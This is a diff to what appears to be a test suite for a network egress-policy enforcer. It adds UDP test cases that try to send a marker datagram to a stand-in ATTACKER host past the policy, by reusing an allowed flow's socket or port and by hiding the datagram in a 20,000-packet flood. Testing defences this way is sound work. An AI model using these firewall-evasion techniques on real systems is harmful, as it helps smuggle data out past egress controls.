@@ -5,6 +5,7 @@ import socket
 
 from rig.attacks import ATTACKER, ATTACKER6, Attack, AttackCase, attacks, kernel_lacks
 from rig.cases import expand
+from rig.internet import WWW
 
 
 def refused_in_kernel(label, program, **more):
@@ -17,11 +18,30 @@ def no_io_uring():
 
 
 MAPPED = f"::ffff:{ATTACKER}"
+UDP_POLICY = f"{ATTACKER}:443/udp exe=/usr/bin/nothing\n{WWW}:7000/udp\n"
 SCTP, DCCP, UDPLITE, MPTCP = 132, 33, 136, 262
 
 ATTACKS = [
-    refused_in_kernel("QUIC's port", "udp(443)"),
-    refused_in_kernel("QUIC's port, connected", """
+    Attack("QUIC's port", "udp(443)"),
+    Attack("a rule for another program", "udp(443)", policy=UDP_POLICY),
+    Attack("an allowed flow's socket, another destination", f"""
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"x", ("{WWW}", 7000)); s.recv(10)
+s.sendto(mark, (ATTACKER, 443)); s.recv(10)""", policy=UDP_POLICY),
+    Attack("an allowed flow's port, another destination", f"""
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+s.bind(("", 40111)); s.sendto(b"x", ("{WWW}", 7000)); s.recv(10); s.close()
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+s.bind(("", 40111)); s.connect((ATTACKER, 443)); s.send(mark); s.recv(10)""", policy=UDP_POLICY),
+    Attack("a flood, and the datagram in the midst of it", f"""
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setblocking(False)
+for i in range(20000):
+    try: s.sendto(b"x", ("{WWW}", 10000 + i))
+    except OSError: pass
+    if i % 100 == 0:
+        try: s.sendto(mark, (ATTACKER, 443))
+        except OSError: pass
+time.sleep(0.2)""", policy=UDP_POLICY),
+    Attack("QUIC's port, connected", """
 s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect((ATTACKER, 443)); s.send(mark)
 s.recv(10)"""),
     refused_in_kernel("IPv6 connection", "tcp(443, ATTACKER6)"),
